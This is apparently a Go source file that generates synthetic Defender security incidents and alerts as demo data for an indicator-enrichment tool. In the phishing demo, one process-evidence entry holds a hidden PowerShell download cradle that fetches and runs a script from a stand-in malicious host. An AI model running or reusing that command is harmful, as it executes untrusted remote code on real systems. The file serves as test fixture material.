package secops

import (
	"fmt"
	"math/rand/v2"
	"slices"
	"sync"
	"time"
)

// The synthetic incident queue: DemoIncidentCount incidents (ids 41001…41040) of 1–6 alerts
// each, plus LargeIncidentID with LargeIncidentIndicators distinct indicators. Ids are stable;
// dates move with now.
const (
	TenantID                = "b3c1b5fc-828c-45fa-a1e1-10d74f6d6e9c" // the docs' tenant
	firstIncident           = 41001
	DemoIncidentCount       = 40
	LargeIncidentID         = "41300"
	LargeIncidentIndicators = 300
)

// Incidents worth showing (see the package doc): a malicious mix, an all-clean one, one whose
// indicators are all private or the tenant's own, and the 300-indicator one.
const (
	DemoMixedIncidentID    = "41001"
	DemoCleanIncidentID    = "41002"
	DemoInternalIncidentID = "41003"
)

type securityData struct {
	incidents []obj
	alerts    []obj
}

// lastSynthetic keeps the most recent generation: a registry asks for alerts and incidents of
// the same now many times (AlertsOf once per incident of a page).
var lastSynthetic struct {
	sync.Mutex
	now  time.Time
	data *securityData
}

// synthetic returns the synthetic incidents and alerts for now. The result is shared: callers
// only read it.
func synthetic(now time.Time) securityData {
	lastSynthetic.Lock()
	defer lastSynthetic.Unlock()
	if lastSynthetic.data == nil || !lastSynthetic.now.Equal(now) {
		d := generate(now)
		lastSynthetic.now, lastSynthetic.data = now, &d
	}
	return *lastSynthetic.data
}

func generate(now time.Time) securityData {
	var d securityData
	add := func(inc obj, alerts []obj) {
		finishIncident(inc, alerts)
		d.incidents = append(d.incidents, inc)
		d.alerts = append(d.alerts, alerts...)
	}
	for _, demo := range []func(time.Time) (obj, []obj){demoMixed, demoClean, demoInternal} {
		add(demo(now))
	}
	for k := 3; k < DemoIncidentCount; k++ {
		add(generatedIncident(now, k))
	}
	add(largeIncident(now))
	return d
}

func incidentID(k int) string { return fmt.Sprintf("%d", firstIncident+k) }

func webURL(kind, id string) string {
	return fmt.Sprintf("https://security.microsoft.com/%s/%s?tid=%s", kind, id, TenantID)
}

// newIncident returns the incident skeleton; finishIncident fills what derives from its alerts.
func newIncident(id, name, description string, created time.Time) obj {
	return obj{
		"@odata.type":        "#microsoft.graph.security.incident",
		"id":                 id,
		"incidentWebUrl":     webURL("incidents", id),
		"redirectIncidentId": nil,
		"tenantId":           TenantID,
		"displayName":        name,
		"createdDateTime":    graphTime(created),
		"lastUpdateDateTime": graphTime(created),
		"assignedTo":         nil,
		"classification":     "unknown",
		"determination":      "unknown",
		"status":             "active",
		"severity":           "low",
		"customTags":         []string{},
		"comments":           []obj{},
		"systemTags":         []string{},
		"description":        description,
	}
}

// finishIncident sets the incident's severity to its highest alert's and its last update to
// its latest alert's.
func finishIncident(inc obj, alerts []obj) {
	rank := func(s string) int { return slices.Index(Severities, s) }
	sev, last := "informational", inc["lastUpdateDateTime"].(string)
	for _, a := range alerts {
		if s := a["severity"].(string); rank(s) > rank(sev) {
			sev = s
		}
		if u := a["lastUpdateDateTime"].(string); u > last {
			last = u
		}
	}
	inc["severity"] = sev
	inc["lastUpdateDateTime"] = last
}

type alertSpec struct {
	source, detection, title, category, severity string
	mitre                                        []string
}

// newAlert builds one alert of incident inc. j numbers the alert within the incident.
func newAlert(r *rand.Rand, inc obj, j int, s alertSpec, created time.Time, evidence []obj) obj {
	prefix := map[string]string{
		"microsoftDefenderForEndpoint": "da", "microsoftDefenderForOffice365": "fa",
		"microsoftDefenderForIdentity": "aa", "microsoftDefenderForCloudApps": "ca",
		"azureAdIdentityProtection": "ad", "microsoft365Defender": "ed",
		"microsoftAppGovernance": "ag", "dataLossPrevention": "dl", "microsoftDefenderForCloud": "dc",
	}[s.source]
	incID := inc["id"].(string)
	id := fmt.Sprintf("%s638%s%02d_%d", prefix, incID, j, -1-r.IntN(2000000000))
	status := map[string]string{"active": "new", "inProgress": "inProgress", "resolved": "resolved",
		"redirected": "new", "awaitingAction": "inProgress"}[inc["status"].(string)]
	updated := created.Add(time.Duration(j+1) * 47 * time.Minute)
	var resolved any
	if status == "resolved" {
		resolved = graphTime(updated)
	}
	mitre := s.mitre
	if mitre == nil {
		mitre = []string{}
	}
	return obj{
		"@odata.type":           "#microsoft.graph.security.alert",
		"id":                    id,
		"providerAlertId":       id,
		"incidentId":            incID,
		"status":                status,
		"severity":              s.severity,
		"classification":        inc["classification"],
		"determination":         inc["determination"],
		"serviceSource":         s.source,
		"detectionSource":       s.detection,
		"detectorId":            guid(r),
		"tenantId":              TenantID,
		"title":                 s.title,
		"description":           s.title + ". Review the evidence and the activity around it.",
		"recommendedActions":    "Review the evidence, contain affected devices and accounts, and block malicious indicators.",
		"category":              s.category,
		"assignedTo":            inc["assignedTo"],
		"alertWebUrl":           webURL("alerts", id),
		"incidentWebUrl":        webURL("incidents", incID),
		"actorDisplayName":      nil,
		"threatDisplayName":     nil,
		"threatFamilyName":      nil,
		"mitreTechniques":       mitre,
		"createdDateTime":       graphTime(created),
		"lastUpdateDateTime":    graphTime(updated),
		"resolvedDateTime":      resolved,
		"firstActivityDateTime": graphTime(created.Add(-35 * time.Minute)),
		"lastActivityDateTime":  graphTime(created.Add(-2 * time.Minute)),
		"comments":              []obj{},
		"evidence":              evidence,
		"systemTags":            []string{},
	}
}

func comment(text, by string, at time.Time) obj {
	return obj{"comment": text, "createdByDisplayName": by, "createdDateTime": graphTime(at)}
}

// demoMixed is the enrichment demo: a phishing mail leads to a download and a C2 connection.
// Its indicators mix malicious, suspicious, clean, unknown, not-found (404), private and
// own-domain hosts.
func demoMixed(now time.Time) (obj, []obj) {
	r := newRand("incident-" + DemoMixedIncidentID)
	created := ago(r, now, 3*time.Hour)
	inc := newIncident(DemoMixedIncidentID, "Multi-stage incident involving Initial access & Command and control on one endpoint",
		"A phishing mail delivered links to a credential-harvesting site; one recipient opened it and the device then connected to a known command-and-control address.", created)
	inc["assignedTo"] = "kaic@contoso.onmicrosoft.com"
	inc["customTags"] = []string{"Demo", "Phishing"}
	inc["comments"] = []obj{comment("Mail purged from all mailboxes; device isolation pending.", "kaic@contoso.onmicrosoft.com", created.Add(40*time.Minute))}
	m := evidenceMaker{r: r, created: created}
	urls := []string{"https://login.fake-malicious.site/o365/signin", "http://woodgrove-bank-login.com/verify", "https://www.fabrikam.com/newsletter", "https://intranet.contoso.com/hr/benefits"}
	mail := []obj{
		m.message("billing@invoice-portal.click", "203.0.113.10", "meganb@contoso.onmicrosoft.com", "Overdue invoice 0412 - action required", urls, "delivered"),
		m.mailbox(2), m.user(2, false),
	}
	for _, u := range urls {
		mail = append(mail, m.url(u))
	}
	endpoint := []obj{
		m.device(1, true), m.file(0, true), m.process(0, `powershell.exe -nop -w hidden -c "iwr https://cdn.fake-malicious.site/a.ps1 | iex"`),
		m.url("https://cdn.fake-malicious.site/a.ps1"),
		m.network("192.168.1.50", 49733, "198.51.100.23", 443, "tcp"),
		m.network("192.168.1.50", 49740, "203.0.113.10", 8443, "tcp"),
		m.dns("cdn-sync-7731.net", []string{"45.77.152.9"}, "10.0.0.53", "192.168.1.50"),
		m.ip("2001:db8:85a3::8a2e:370:7334"), m.ip("fe80::1c2a:3bff:fe4d:9e01"), m.ip("8.8.8.8"),
	}
	alerts := []obj{
		newAlert(r, inc, 0, alertSpec{"microsoftDefenderForOffice365", "microsoftDefenderForOffice365", "Email messages containing malicious URL removed after delivery", "InitialAccess", "high", []string{"T1566.002"}}, created, mail),
		newAlert(r, inc, 1, alertSpec{"microsoftDefenderForEndpoint", "microsoftDefenderForEndpoint", "Suspicious PowerShell download cradle", "Execution", "medium", []string{"T1059.001", "T1105"}}, created.Add(25*time.Minute), endpoint),
		newAlert(r, inc, 2, alertSpec{"microsoftDefenderForEndpoint", "customTi", "Connection to a custom network indicator", "CommandAndControl", "high", []string{"T1071.001"}}, created.Add(31*time.Minute),
			[]obj{m.device(1, true), m.ip("203.0.113.10"), m.url("https://batloader-cdn.xyz/gate.php"), m.ip("104.21.50.7"), m.dns("update-northwind.net", []string{"198.51.100.7"}, "10.0.0.53", "192.168.1.50")}),
	}
	return inc, alerts
}

// demoClean has only clean (neutral) and private indicators: a gate with --fail-on malicious
// passes on it.
func demoClean(now time.Time) (obj, []obj) {
	r := newRand("incident-" + DemoCleanIncidentID)
	created := ago(r, now, 9*time.Hour)
	inc := newIncident(DemoCleanIncidentID, "Unusual volume of file downloads from a partner site",
		"A user downloaded many files from a partner's site; every address involved has a clean reputation.", created)
	inc["status"], inc["classification"], inc["determination"] = "resolved", "informationalExpectedActivity", "lineOfBusinessApplication"
	inc["assignedTo"] = "davids@contoso.onmicrosoft.com"
	inc["customTags"] = []string{"Demo"}
	m := evidenceMaker{r: r, created: created}
	alerts := []obj{
		newAlert(r, inc, 0, alertSpec{"microsoftDefenderForCloudApps", "cloudAppSecurity", "Mass download by a single user", "Exfiltration", "low", []string{"T1530"}}, created,
			[]obj{m.user(3, false), m.ip("20.103.85.33"), m.url("https://www.fabrikam.com/partners/catalog.zip"), m.url("https://northwindtraders.com/specs")}),
		newAlert(r, inc, 1, alertSpec{"microsoftDefenderForEndpoint", "microsoftDefenderForEndpoint", "Unusual number of files read from a network share", "Collection", "informational", nil}, created.Add(10*time.Minute),
			[]obj{m.device(2, false), m.network("10.20.0.15", 50211, "13.107.246.10", 443, "tcp"), m.dns("adatum.com", []string{"40.76.4.15"}, "10.0.0.53", "10.20.0.15")}),
	}
	return inc, alerts
}

// demoInternal carries only private addresses and the tenant's own domains: enrichment sends
// nothing to threat intelligence for it.
func demoInternal(now time.Time) (obj, []obj) {
	r := newRand("incident-" + DemoInternalIncidentID)
	created := ago(r, now, 20*time.Hour)
	inc := newIncident(DemoInternalIncidentID, "Lateral movement using remote services between internal hosts",
		"Remote service creation between internal servers; every address involved is internal.", created)
	inc["status"] = "inProgress"
	inc["assignedTo"] = "alexw@contoso.onmicrosoft.com"
	inc["customTags"] = []string{"Demo", "Internal"}
	m := evidenceMaker{r: r, created: created}
	alerts := []obj{
		newAlert(r, inc, 0, alertSpec{"microsoftDefenderForIdentity", "microsoftDefenderForIdentity", "Remote code execution attempt", "LateralMovement", "medium", []string{"T1021.002"}}, created,
			[]obj{m.user(4, true), m.device(2, false), m.network("10.1.4.22", 51522, "10.20.0.15", 445, "tcp"), m.ip("127.0.0.1"), m.ip("100.64.3.5")}),
		newAlert(r, inc, 1, alertSpec{"microsoftDefenderForEndpoint", "microsoftDefenderForEndpoint", "Suspicious service registration", "Persistence", "medium", []string{"T1543.003"}}, created.Add(5*time.Minute),
			[]obj{m.device(0, true), m.dns("vpn.contoso.com", []string{"172.16.8.9"}, "10.0.0.53", "10.1.4.22"), m.url("https://sharepoint.contoso.com/sites/it/tools.zip"), m.ip("192.168.10.7")}),
	}
	return inc, alerts
}
